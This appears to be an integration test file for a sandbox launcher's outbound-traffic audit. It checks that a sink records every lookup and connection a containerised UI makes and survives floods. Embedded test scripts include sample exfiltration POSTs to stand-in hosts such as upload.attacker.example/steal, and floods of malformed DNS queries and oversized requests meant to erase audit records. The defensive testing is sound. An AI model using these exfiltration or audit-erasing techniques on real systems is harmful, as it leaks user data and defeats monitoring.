"""The audit as people use it, with a noisy front-end of our own that tries
the ways out real UIs do: every attempt, by name or by address, ends at the
sink and shows up with its detail; `up` says what was tried while starting,
`status` counts it, `audit --since` and `--follow` narrow and follow it, and
the records outlive the containers until `down --volumes`."""
from __future__ import annotations

import itertools
import json
import shutil
import threading
import time

import pytest
from typer.testing import CliRunner

from launcher.cli import app
from launcher.commands.audit import audit, follow
from launcher.commands.down import down
from launcher.commands.status import status
from launcher.commands.up import up
from tests.integration.conftest import FIXTURES_BAD, ca_bundle, poll, ui, write_policy

NOISY = FIXTURES_BAD.parent / "noisy-ui"
NAMES = {"telemetry.noisy-ui.example", "updates.noisy-ui.example", "api.noisy-ui.example",
         "collector.noisy-ui.example"}
runner = CliRunner()


def looked_up(report: dict) -> set[str]:
    return {n["name"] for n in report["names"]}


@pytest.fixture
def noisy(gateway, tmp_path):
    yield from _noisy(gateway, tmp_path)


@pytest.fixture
def noisy_answered(gateway, tmp_path):
    """The noisy UI with `audit: connections`: its names resolve to the sink."""
    yield from _noisy(gateway, tmp_path, audit="connections")


def _noisy(gateway, tmp_path, **policy):
    shutil.copytree(NOISY, tmp_path / "noisy-ui")
    path = write_policy(tmp_path, frontend={"build": {"context": "noisy-ui"}, "health_path": "/health"}, **policy)
    said: list[str] = []
    result = up(gateway, path, ca_bundle=ca_bundle(), say=said.append)
    yield result, path, said
    down(gateway, result.name, volumes=True)


def test_up_says_what_was_tried_while_starting_and_status_counts_it(gateway, noisy):
    result, path, said = noisy
    # The UI tries on start, in a thread of its own: `up` sees what it had tried by the time it was ready.
    report = poll(lambda: NAMES <= looked_up(r := audit(gateway, result.name)) and r)
    assert {n["parts"][0] for n in report["names"] if n["name"] in NAMES} == {"frontend"}
    # Its first lookups come before it answers, so `up` has seen them.
    [summary] = [m for m in said if m.startswith("while starting, parts tried to reach")]
    assert "telemetry.noisy-ui.example (frontend)" in summary and "each ended at the sink" in summary
    assert f"`sandbox audit {result.name}` shows all" in summary
    # The sink writes its counts once a second, after the records `audit` read above: awaited, not raced.
    [state] = poll(lambda: [s for s in status(gateway, result.name) if s["attempts"] >= len(NAMES)],
                   lambda: f"status to count them; it counts {status(gateway, result.name)[0]['attempts']}", 30)
    text = runner.invoke(app, ["status", result.name]).stdout
    assert f"{state['attempts']} attempt(s) to reach outside, all stopped" in text


def test_attempts_by_address_end_at_the_sink_and_are_recorded(gateway, noisy):
    result, _, _ = noisy
    wanted = {("tcp", "203.0.113.7", 443), ("udp", "203.0.113.7", 9999)}

    def by_destination(report: dict) -> dict:
        return {(d["protocol"], d["address"], d["port"]): d for d in report["destinations"]}
    # The UI makes these attempts in its own time, maybe after `up` has
    # seen it ready: awaited by what they are, not by how many there are.
    found = poll(lambda: wanted <= set(seen := by_destination(audit(gateway, result.name))) and seen,
                 lambda: f"both attempts by address; seen {sorted(by_destination(audit(gateway, result.name)))}")
    tcp, udp = found[("tcp", "203.0.113.7", 443)], found[("udp", "203.0.113.7", 9999)]
    assert tcp["parts"] == ["frontend"] and udp["parts"] == ["frontend"] and udp["said"] == ["14 B"]
    # What the UI printed it got: a connection (to the sink), a datagram sent; nothing came back.
    logs = "\n".join(gateway.containers.logs(f"sandbox-{result.name}-frontend", tail=200))
    assert '"attempt": "tcp 203.0.113.7:443", "result": "reached"' in logs
    poll(lambda: status(gateway, result.name)[0]["attempts"] >= len(NAMES) + 2,
         lambda: f"status to count them; it counts {status(gateway, result.name)[0]['attempts']}")


def test_since_and_follow(gateway, noisy):
    result, _, _ = noisy
    poll(lambda: NAMES <= looked_up(audit(gateway, result.name)))
    later = time.time()
    assert looked_up(audit(gateway, result.name, since=later)) == set()
    seen: list[dict] = []

    def watch():
        for entry in follow(gateway, result.name):
            seen.append(entry)
            if entry["name"] == "updates.noisy-ui.example":
                return
    watcher = threading.Thread(target=watch, daemon=True)
    watcher.start()
    # The phone-home waits until the follower is following: it has seen a
    # lookup made after it started (one each poll, until one is seen).
    markers = itertools.count()

    def follower_saw_a_marker() -> bool:
        gateway.containers.exec_in(
            f"sandbox-{result.name}-frontend",
            ["python3", "-c", f"import socket\ntry: socket.gethostbyname('marker{next(markers)}.example')\n"
                              "except OSError: pass"])
        return any(str(e["name"]).startswith("marker") for e in seen)
    poll(follower_saw_a_marker, what="the follower to see a lookup")
    with ui(result, "phone-home", {}, timeout=60):
        pass
    watcher.join(60)
    assert not watcher.is_alive(), "the follower never saw the phone-home's lookups"
    assert {e["name"] for e in seen} >= {"telemetry.noisy-ui.example", "updates.noisy-ui.example"}
    assert all(e["part"] == "frontend" for e in seen)
    assert NAMES <= looked_up(audit(gateway, result.name, since=later))
    run = runner.invoke(app, ["audit", result.name, "--since", "1d", "--json"])
    assert NAMES <= {n["name"] for n in json.loads(run.stdout)["names"]}


def test_the_records_outlive_the_containers_until_down_volumes(gateway, noisy):
    result, path, _ = noisy
    poll(lambda: NAMES <= looked_up(audit(gateway, result.name)))
    before = len(audit(gateway, result.name)["lookups"])
    down(gateway, result.name)  # the containers go; the audit volume stays
    up(gateway, path, ca_bundle=ca_bundle())
    poll(lambda: len(audit(gateway, result.name)["lookups"]) >= 2 * before)
    down(gateway, result.name, volumes=True)
    up(gateway, path, ca_bundle=ca_bundle())
    after = poll(lambda: NAMES <= looked_up(r := audit(gateway, result.name)) and r)
    assert len(after["lookups"]) < 2 * before  # a new record: only this start's


def test_in_connections_mode_each_destination_shows_its_name_port_and_what_was_said(gateway, noisy_answered):
    result, _, _ = noisy_answered
    wanted = {("tcp", "api.noisy-ui.example", 443), ("tcp", "collector.noisy-ui.example", 80),
              ("tcp", "203.0.113.7", 443), ("udp", "203.0.113.7", 9999)}

    def by_destination(report: dict) -> dict:
        return {(d["protocol"], d["name"] or d["address"], d["port"]): d for d in report["destinations"]}
    report = poll(lambda: wanted <= set(by_destination(r := audit(gateway, result.name))) and r)
    by_destination = by_destination(report)
    https = by_destination[("tcp", "api.noisy-ui.example", 443)]
    assert https["said"] == ["TLS to api.noisy-ui.example"] and https["parts"] == ["frontend"]
    assert https["address"].startswith("198.1")  # an address of the sink's own range
    upload = by_destination[("tcp", "collector.noisy-ui.example", 80)]
    assert upload["said"] == ["POST http://collector.noisy-ui.example/upload (31 B body)"]
    assert upload["bodies"] == ['{"chat": "what the user typed"}']  # what the UI tried to upload, kept
    # Attempts by address are recorded as before, with no name.
    assert by_destination[("tcp", "203.0.113.7", 443)]["name"] is None
    # Every name resolved, to the sink.
    answered = {n["name"]: n["answer"] for n in report["names"]}
    assert NAMES <= set(answered) and all(answered[n].startswith("198.1") for n in NAMES)
    # What the UI got: an answer, a connection, then nothing (closed): never the outside.
    logs = "\n".join(gateway.containers.logs(f"sandbox-{result.name}-frontend", tail=200))
    assert '"attempt": "lookup telemetry.noisy-ui.example", "result": "reached"' in logs
    for attempt in ("https api.noisy-ui.example", "http post collector.noisy-ui.example"):
        assert f'"attempt": "{attempt}", "result": "' in logs  # it tried, and got no answer
        assert f'"attempt": "{attempt}", "result": "reached"' not in logs
    text = runner.invoke(app, ["audit", result.name]).stdout
    assert "telemetry.noisy-ui.example -> the sink (198.1" in text
    assert "tcp api.noisy-ui.example:443 (198.1" in text and "TLS to api.noisy-ui.example" in text
    assert 'body: {"chat": "what the user typed"}' in text


FLOOD = """
import json, socket, sys
first, count, last = int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3])
held = []
for port in range(first, first + count):  # opened and held, saying nothing
    s = socket.socket()
    s.settimeout(3)
    try:
        s.connect(("203.0.113.9", port))
        held.append((port, s))
    except OSError:  # not taken in time (a busy machine): not held, so not awaited
        pass
s = socket.socket()  # and, while they are held, one that says something
s.settimeout(3)
s.connect(("203.0.113.9", last))
s.sendall(b"POST /after-the-flood HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 0\\r\\n\\r\\n")
s.settimeout(60)
try:  # the others held until the sink has taken this one: it reads, records and closes (or resets), never answers
    s.recv(1)
except ConnectionResetError:
    pass
print(json.dumps([port for port, _ in held]))
"""


def test_a_flood_of_connections_cannot_blind_the_sink(gateway, docker_client, tmp_path):
    """A front-end that opens more connections at once than the sink has
    threads for must not stop it recording: before, the sink's accept loop
    died of "can't start new thread" and every later attempt went unrecorded."""
    result = up(gateway, write_policy(tmp_path), ca_bundle=ca_bundle())
    try:
        first, count, last = 30000, 120, 31000
        frontend = docker_client.containers.get(f"sandbox-{result.name}-frontend")
        run = frontend.exec_run(["python3", "-c", FLOOD, str(first), str(count), str(last)])
        assert run.exit_code == 0, run.output.decode()[-2000:]

        held = set(json.loads(run.output.decode().splitlines()[-1]))
        # More held at once than the sink has readers (16): the flood overflowed them.
        assert len(held) > 16, held

        def recorded() -> set[int]:
            return {c["port"] for c in audit(gateway, result.name)["connections"] if c["address"] == "203.0.113.9"}
        poll(lambda: {last, *held} <= recorded(),
             lambda: f"the records of ports {sorted({last, *held} - recorded())}", seconds=120)
        after = next(c for c in audit(gateway, result.name)["connections"] if c["port"] == last)
        assert after["said"] in ("POST http://x/after-the-flood (0 B body)", "not read: the sink was busy")
    finally:
        down(gateway, result.name, volumes=True)


def test_what_the_ingress_refused_outlives_its_container_until_down_volumes(gateway, tmp_path):
    """Tried as a new user would: `sandbox audit` after a `down` and an
    `up` no longer showed the requests the ingress had refused before (they
    were read from its container's log, gone with the container)."""
    import urllib.error
    import urllib.request
    path = write_policy(tmp_path)
    result = up(gateway, path, ca_bundle=ca_bundle())

    def knock(path: str) -> None:  # no token: refused
        try:
            urllib.request.urlopen(f"{result.url}{path}", timeout=10)
        except urllib.error.HTTPError as e:
            assert e.code == 401
    try:
        knock("first-knock")
        refused = poll(lambda: [r for r in audit(gateway, result.name)["ingress_refused"] if "first-knock" in r])
        assert len(refused) == 1 and "reason=no-token" in refused[0]
        down(gateway, result.name)  # the containers go; the audit volume stays
        result = up(gateway, path, ca_bundle=ca_bundle())
        assert [r for r in audit(gateway, result.name)["ingress_refused"] if "first-knock" in r] == refused
        result = up(gateway, path, ca_bundle=ca_bundle(), new_token=True)  # a new ingress container
        later = time.time()
        knock("second-knock")
        poll(lambda: any("second-knock" in r for r in audit(gateway, result.name)["ingress_refused"]))
        kept = audit(gateway, result.name)["ingress_refused"]
        assert [r for r in kept if "first-knock" in r] == refused  # once, not again with each keeping
        recent = audit(gateway, result.name, since=later)["ingress_refused"]
        assert any("second-knock" in r for r in recent) and not any("first-knock" in r for r in recent)
        down(gateway, result.name, volumes=True)
        result = up(gateway, path, ca_bundle=ca_bundle())
        assert not any("knock" in r for r in audit(gateway, result.name)["ingress_refused"])
    finally:
        down(gateway, result.name, volumes=True)


# A front-end's own attempts, made as its user with `docker exec`: what the
# flood after it must not erase.
FIRST = """
import socket, urllib.request
socket.gethostbyname("first-lookup.attacker.example")  # one A query
try:
    urllib.request.urlopen(urllib.request.Request("http://upload.attacker.example/steal",
                           data=b"what the user typed, stolen"), timeout=5)
except OSError:
    pass  # the sink reads it and closes: no answer ever comes
"""

# Then a flood, straight to the sink (DNS) and to outside addresses (the sink
# takes those): queries cut short before their class, random bytes, thousands
# of long names; connections with `Content-Length: ²` and with oversized
# headers. It prints how many connections it made. The test floods in rounds
# until the detail files have turned over: how many records a round gets
# written depends on the sink's pace and the kernel's socket buffer, not on
# the test.
ERASING_FLOOD = """
import os, socket, struct, sys
sink, round = sys.argv[1], int(sys.argv[2])

def query(name):
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\\x00"
    return struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0) + labels + struct.pack("!HH", 1, 1)

made = 0
def connection(request):
    global made
    try:
        with socket.create_connection(("203.0.113.20", 80), timeout=10) as s:
            made += 1
            s.sendall(request)
    except OSError:
        pass

udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for n in range(15000):
    udp.sendto(query(f"{round:02}{n:06}" + ".long" * 45), (sink, 53))
    if n % 10 == 0:
        udp.sendto(query(f"cut{n}.example")[:-2], (sink, 53))
        udp.sendto(os.urandom(40), (sink, 53))
for n in range(300):
    if n % 2:
        connection(b"POST /flood HTTP/1.1\\r\\nHost: flood.example\\r\\nContent-Length: \\xb2\\r\\n\\r\\nx")
    else:
        connection(b"GET /big HTTP/1.1\\r\\nHost: flood.example\\r\\nX-Big: " + b"y" * 60000 + b"\\r\\n\\r\\n")
print("flooded", made)
"""

# Between rounds, a real attempt, retried until its lookup is answered (the
# flood may fill the sink's queue).
DURING = """
import socket, time
deadline = time.monotonic() + 120
while True:
    try:
        address = socket.getaddrinfo("during-the-flood.attacker.example", 80, socket.AF_INET)[0][4][0]
        break
    except OSError:
        assert time.monotonic() < deadline, "the lookup was never answered"
with socket.create_connection((address, 80), timeout=10) as s:
    s.sendall(b"GET /during HTTP/1.1\\r\\nHost: during-the-flood.attacker.example\\r\\n\\r\\n")
    s.recv(1)
"""

# The sink's detail files turn over at this many bytes in this test only (the
# launcher never sets it): at 8 MiB the flood takes many minutes to turn them
# over at the sink's quarter of a CPU; the summary does not depend on it.
SHRUNK_FILE_BYTES = 16 * 1024


def sink_module():
    """images/dns-sink/sink.py as a module, for its bounds."""
    import importlib.util

    from tests.integration.conftest import ROOT
    spec = importlib.util.spec_from_file_location("sink", ROOT / "images" / "dns-sink" / "sink.py")
    sink = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(sink)
    return sink


def shrink_the_sinks_files(monkeypatch) -> None:
    """The sandboxes `up` makes in this test turn the sink's detail files over at SHRUNK_FILE_BYTES."""
    import dataclasses

    import launcher.commands.prepare
    build_spec = launcher.commands.prepare.build_spec

    def shrunk(*args, **kwargs):
        made = build_spec(*args, **kwargs)
        return dataclasses.replace(made, containers=tuple(
            dataclasses.replace(c, env=c.env + (("SANDBOX_SINK_AUDIT_FILE_BYTES", str(SHRUNK_FILE_BYTES)),))
            if c.part == "dns" else c for c in made.containers))
    monkeypatch.setattr(launcher.commands.prepare, "build_spec", shrunk)


def test_a_flood_of_malformed_and_oversized_attempts_neither_stops_the_sink_nor_erases_the_audit(
        gateway, docker_client, tmp_path, monkeypatch):
    """Tried as an attacker would: a front-end looked up a name and POSTed a
    body to an outside address (both recorded), then flooded the sink with
    oversized requests and long names; both rotation files turned over and
    `sandbox audit` no longer showed the lookup or the POST. A DNS query
    without a class field stopped the sink (it restarted in a loop), and
    `Content-Length: ²` left a connection unrecorded."""
    from launcher.commands.audit import KEPT_BYTES
    sink = sink_module()
    shrink_the_sinks_files(monkeypatch)
    result = up(gateway, write_policy(tmp_path, audit="connections"), ca_bundle=ca_bundle())
    try:
        frontend = docker_client.containers.get(f"sandbox-{result.name}-frontend")
        sink_container = docker_client.containers.get(f"sandbox-{result.name}-dns")
        sink_address = gateway.state.addresses(sink_container.name)[f"sandbox-{result.name}-internal"]
        run = frontend.exec_run(["python3", "-c", FIRST])
        assert run.exit_code == 0, run.output.decode()[-2000:]

        def upload(report: dict) -> dict | None:
            return next((d for d in report["destinations"] if d["name"] == "upload.attacker.example"), None)
        poll(lambda: upload(audit(gateway, result.name)))
        import launcher.commands.audit

        def detail_only() -> dict:  # the audit read without the sink's summary
            with monkeypatch.context() as without_the_summary:
                without_the_summary.setattr(launcher.commands.audit, "summary_kept",
                                            lambda gateway, name: {"destinations": [], "more": {}, "dropped": {}})
                return audit(gateway, result.name)

        def names(report: dict) -> dict:
            return {n["name"]: n for n in report["names"]}

        connections_made, rounds = 0, iter(range(40))

        def flood() -> None:
            nonlocal connections_made
            run = frontend.exec_run(["python3", "-c", ERASING_FLOOD, sink_address, str(next(rounds))])
            assert run.exit_code == 0 and b"flooded" in run.output, run.output.decode()[-2000:]
            connections_made += int(run.output.decode().split()[-1])

        def erased() -> bool:  # every detail record of the first lookup and the POST turned over
            report = detail_only()
            return "first-lookup.attacker.example" not in names(report) and upload(report) is None
        flood()
        run = frontend.exec_run(["python3", "-c", DURING])
        assert run.exit_code == 0, run.output.decode()[-2000:]
        while not erased():
            flood()

        def flooded(report: dict) -> dict | None:
            return next((d for d in report["destinations"] if d["address"] == "203.0.113.20"), None)

        def all_taken(report: dict) -> bool:  # the sink has read and recorded every connection the flood made
            return (flooded(report) or {}).get("count") == connections_made
        report = poll(lambda: "during-the-flood.attacker.example" in names(r := audit(gateway, result.name))
                          and all_taken(r) and r, seconds=300)
        # The flood did what it did before: every detail record of the first lookup and the POST turned over.
        assert "first-lookup.attacker.example" not in {e["name"] for e in report["lookups"]}
        assert not any(c["name"] == "upload.attacker.example" for c in report["connections"])
        # The control: read without the sink's summary, the audit has lost
        # them (the rounds went on until it had), so the checks below would
        # see an erasing flood.
        assert erased()
        # The summary still has them, with exact counts, the POST with its body.
        first = names(report)["first-lookup.attacker.example"]
        assert first["count"] == 1 and first["parts"] == ["frontend"]
        stolen = upload(report)
        assert stolen["count"] == 1 and stolen["bodies"] == ["what the user typed, stolen"]
        assert stolen["said"] == ["POST http://upload.attacker.example/steal (27 B body)"]
        during = next(d for d in report["destinations"] if d["name"] == "during-the-flood.attacker.example")
        assert during["said"] == ["GET http://during-the-flood.attacker.example/during (0 B body)"]
        # Itemised if the front-end's own table still had room when it was made,
        # else from its detail record, as "at least": which, the flood's pace decides.
        assert during["count"] == 1 or during["count_is_lower_bound"]
        # Every malformed query and connection was recorded, none stopped the sink.
        assert names(report)["(malformed)"]["count"] > 0  # as many as the sink's queue did not drop
        # (and all_taken above: every connection, half of them with `Content-Length: ²`, counted)
        sink_container.reload()
        assert sink_container.attrs["RestartCount"] == 0 and sink_container.status == "running"
        # Past its rate, the front-end's detail records were counted, not written, and the audit says so.
        assert report["dropped"]["frontend"] > 0
        text = runner.invoke(app, ["audit", result.name]).stdout
        assert "first-lookup.attacker.example: no such name" not in text  # it was answered, by the sink
        assert "    1x  first-lookup.attacker.example -> the sink (198.1" in text
        assert "body: what the user typed, stolen" in text and "detail record(s) not written" in text
        as_json = json.loads(runner.invoke(app, ["audit", result.name, "--json"]).stdout)
        assert as_json["dropped"]["frontend"] >= report["dropped"]["frontend"]
        # The volume stayed within its bounds: each file, and all of them.
        sizes = dict(line.rsplit(" ", 1) for line in sink_container.exec_run(
            ["find", "/audit", "-type", "f", "-printf", "%f %s\\n"]).output.decode().splitlines())
        sizes = {file: int(size) for file, size in sizes.items()}
        assert {"lookups.jsonl", "lookups.1.jsonl", "connections.jsonl", "connections.1.jsonl",
                "summary.json", "counts.json"} <= set(sizes)
        assert all(size <= SHRUNK_FILE_BYTES for file, size in sizes.items() if file.endswith(".jsonl"))
        assert sizes["summary.json"] <= sink.SUMMARY_BYTES
        volume_bound = 4 * 8 * 1024 * 1024 + 2 * sink.SUMMARY_BYTES + 2 * 4096 + KEPT_BYTES
        assert sum(sizes.values()) <= volume_bound
    finally:
        down(gateway, result.name, volumes=True)


# The front-end fills its own table in the sink's summary with new names.
FILL_THE_TABLE = """
import socket, sys
for n in range(int(sys.argv[1])):
    socket.gethostbyname(f"fill{n}.attacker.example")  # each answered, by the sink: none lost in its queue
"""

# A backend's attempt: a lookup and a POST with a body.
BACKEND_POST = """
import socket
address = socket.gethostbyname("exfil.backend.example")
with socket.create_connection((address, 80), timeout=10) as s:
    s.sendall(b"POST /up HTTP/1.1\\r\\nHost: exfil.backend.example\\r\\nContent-Length: 23\\r\\n\\r\\nSECRET-from-the-backend")
    s.recv(1)
"""

# Then junk POSTs of 16 KiB bodies: the connections' detail files turn over
# again and again.
JUNK = """
import socket, sys
for n in range(int(sys.argv[1])):
    with socket.create_connection(("203.0.113.30", 80), timeout=10) as s:
        s.sendall(b"POST /junk%d HTTP/1.1\\r\\nHost: j\\r\\nContent-Length: 16384\\r\\n\\r\\n" % n + b"z" * 16384)
        s.recv(1)
print("sent")
"""


def test_one_part_filling_its_table_in_the_summary_cannot_erase_anothers_attempt(
        gateway, docker_client, tmp_path, monkeypatch):
    """Tried as an attacker would: the summary's 1,000-destination table was
    shared by all parts; the front-end filled it with new names, and a
    backend's lookup and POST (body SECRET-...) made after that existed only
    in the detail files, which 75 s of the front-end's junk POSTs turned
    over: the audit kept only "5x more attempts by backend". Each part now
    has a table of its own: the backend's attempt stays itemised, with its
    body and exact count, after the detail files turned over; the control:
    the front-end's own attempts past its table are counted, not itemised."""
    sink = sink_module()
    shrink_the_sinks_files(monkeypatch)
    result = up(gateway, write_policy(tmp_path, audit="connections"), ca_bundle=ca_bundle())
    try:
        frontend = docker_client.containers.get(f"sandbox-{result.name}-frontend")
        backend = docker_client.containers.get(f"sandbox-{result.name}-backend")
        past_the_table = 20
        run = frontend.exec_run(["python3", "-c", FILL_THE_TABLE, str(sink.MAX_DESTINATIONS_PER_PART + past_the_table)])
        assert run.exit_code == 0, run.output.decode()[-2000:]
        poll(lambda: audit(gateway, result.name)["not_itemised"].get("frontend", 0) >= past_the_table)
        run = backend.exec_run(["/opt/venv/bin/python", "-c", BACKEND_POST])
        assert run.exit_code == 0, run.output.decode()[-2000:]
        junk = 200
        run = frontend.exec_run(["python3", "-c", JUNK, str(junk)])
        assert run.exit_code == 0 and b"sent" in run.output, run.output.decode()[-2000:]
        report = poll(lambda: (r := audit(gateway, result.name))["not_itemised"].get("frontend", 0)
                          >= past_the_table + junk and r, seconds=120)
        # The flood did turn the detail file over: the backend's POST in detail is gone.
        assert not any(c["part"] == "backend" for c in report["connections"])
        # The backend's attempt is itemised all the same, exactly, with its body.
        [post] = [d for d in report["destinations"] if d["name"] == "exfil.backend.example"]
        assert (post["parts"], post["count"], post["count_is_lower_bound"], post["bodies"]) == (
            ["backend"], 1, False, ["SECRET-from-the-backend"])
        [lookup] = [n for n in report["names"] if n["name"] == "exfil.backend.example"]
        assert (lookup["parts"], lookup["count"], lookup["count_is_lower_bound"]) == (["backend"], 1, False)
        # The control: the front-end's attempts past its own table are counted, not itemised.
        assert report["not_itemised"]["frontend"] >= past_the_table + junk and "backend" not in report["not_itemised"]
        assert not any(d["address"] == "203.0.113.30" and not d["count_is_lower_bound"]
                       for d in report["destinations"])
        text = runner.invoke(app, ["audit", result.name]).stdout
        assert "body: SECRET-from-the-backend" in text
        assert f"{report['not_itemised']['frontend']}x  more attempts by frontend" in text
    finally:
        down(gateway, result.name, volumes=True)
